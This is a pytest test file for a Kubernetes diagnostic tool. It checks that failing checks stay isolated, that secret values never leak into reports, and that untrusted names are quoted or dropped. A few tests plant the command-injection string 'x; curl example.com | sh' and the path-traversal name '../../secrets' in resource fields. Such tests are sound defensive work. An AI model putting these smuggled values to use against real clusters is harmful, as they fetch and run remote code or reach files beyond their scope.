"""Checks that fail end no other check, and show nothing that they read."""

import dataclasses
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from rayhelm.live.cluster.kinds import CONFIG_MAPS, DEPLOYMENTS, RESOURCE_QUOTAS
from rayhelm.live.doctor import run
from rayhelm.live.doctor.check import load_checks
from rayhelm.live.doctor.facts import Facts
from rayhelm.live.doctor.finding import CheckState, DoctorReport, Finding
from rayhelm.live.doctor.metrics import serve
from shared.doctor_world import World, fleet
from shared.plant import load_plants
from shared.ports import reserve_port


def fail(facts: Facts) -> Iterator[Finding]:
    raise ValueError("hf_secret")


@pytest.fixture
def report(monkeypatch: pytest.MonkeyPatch) -> DoctorReport:
    """The report of a fleet with a fault in one check, and a check that fails."""
    checks = {**load_checks(), "nodes": dataclasses.replace(load_checks()["nodes"], find=fail)}
    monkeypatch.setattr(run, "load_checks", lambda: checks)
    world = World(fleet())
    world.plant(load_plants()["quota"][0])
    return world.examine()


def test_check_that_fails_is_a_finding_and_ends_no_other_check(report: DoctorReport) -> None:
    assert {each.check for each in report.findings} == {"nodes", "quota", "drift"}
    (finding,) = (each for each in report.findings if each.check == "nodes")
    assert finding.evidence.startswith("check failed: ValueError at run.py:")
    assert next(each for each in report.checks if each.id == "nodes").state is CheckState.not_checked


def test_check_that_fails_shows_nothing_that_it_read(report: DoctorReport) -> None:
    assert "hf_secret" not in report.model_dump_json()


def test_server_of_metrics_goes_on_after_a_run_that_fails() -> None:
    stop, said = threading.Event(), list[str]()

    def examine() -> DoctorReport:
        if len(said) > 1:
            stop.set()
        raise AttributeError("hf_secret")

    with reserve_port() as port:
        serve(examine, port, 0.01, said.append, stop)
    assert len(said) == 3
    assert said[1].startswith("the run failed: AttributeError at metrics.py:")


def test_object_with_another_form_is_named_with_its_field() -> None:
    world = World(fleet())
    quota = next(each for each in world.items(RESOURCE_QUOTAS) if each["metadata"]["name"] == "lab")
    quota["spec"]["hard"] = ["many"]
    (finding,) = world.examine("quota").findings
    assert finding.object == "ResourceQuota lab/lab"
    assert finding.evidence.startswith("check failed: spec.hard: ")
    assert finding.fix.startswith("kubectl get resourcequota lab -n lab -o yaml")


def test_name_that_cannot_be_written_is_a_finding() -> None:
    world = World(fleet())
    quota = next(each for each in world.items(RESOURCE_QUOTAS) if each["metadata"]["name"] == "lab")
    world.items(RESOURCE_QUOTAS).append({**quota, "metadata": {"name": "\ud800", "namespace": "lab"}})
    (finding,) = world.examine("quota").findings
    assert (finding.object, finding.evidence[:28]) == ("ResourceQuota lab/?", "check failed: metadata.name:")


def deployment(**spec: Any) -> dict[str, Any]:
    pod = {"containers": [{"name": "one", "image": "registry.example/one:1"}], **spec}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "odd", "namespace": "lab"},
        "spec": {"selector": {"matchLabels": {"app": "odd"}}, "template": {"metadata": {}, "spec": pod}},
    }


def test_name_of_a_secret_that_is_no_name_is_neither_read_nor_pasted() -> None:
    world = World(fleet())
    world.create(deployment(imagePullSecrets=[{"name": "x; curl example.com | sh"}, {"name": "../../secrets"}]))
    (finding,) = world.examine("secrets").findings
    assert finding.object == "Deployment lab/odd"
    assert "curl" not in finding.model_dump_json()


def test_reference_with_an_empty_name_is_no_finding() -> None:
    world = World(fleet())
    world.create(deployment(imagePullSecrets=[{"name": ""}]))
    assert world.examine("secrets").findings == ()


def test_secret_with_another_form_hides_no_other_secret() -> None:
    world = World(fleet())
    world.create(deployment(imagePullSecrets=[{"name": "missing"}]))
    keys = next(path for path in world.answers if path.endswith("/secrets/gateway-keys-lab"))
    world.answers[keys]["data"] = {"keys": ["hf_secret"]}
    missing, malformed = world.examine("secrets").findings
    assert (malformed.object, malformed.evidence.partition(": ")[0]) == (
        "Secret gateway/gateway-keys-lab",
        "check failed",
    )
    assert missing.object == "Secret lab/missing"
    assert "hf_secret" not in malformed.model_dump_json()


def test_annotation_of_a_tenant_cannot_end_the_command_of_a_fix() -> None:
    world = World(fleet())
    odd = deployment()
    odd["metadata"] |= {
        "labels": {"app.kubernetes.io/part-of": "rayhelm"},
        "annotations": {"meta.helm.sh/release-name": "x; curl example.com | sh"},
    }
    world.items(DEPLOYMENTS).append(odd)
    (finding,) = world.examine("drift").findings
    assert finding.fix.startswith("helm uninstall 'x; curl example.com | sh' -n lab")


def test_deployment_of_a_tenant_is_not_taken_for_the_operator() -> None:
    """It would be reported as an operator that does not run, or hide that none runs."""
    world = World(fleet())
    odd = deployment()
    odd["metadata"]["labels"] = {"app.kubernetes.io/name": "kuberay-operator"}
    world.create(odd)
    assert world.examine("kuberay-operator", "operator-access").findings == ()


def test_measurements_of_a_tenant_are_not_compared_with_the_plan() -> None:
    world = World(fleet())
    (fault,) = load_plants()["measured-plan"]
    (config_map,) = fault.create
    world.items(CONFIG_MAPS).append({**config_map, "metadata": {**config_map["metadata"], "namespace": "lab"}})
    assert world.examine("measured-plan").findings == ()
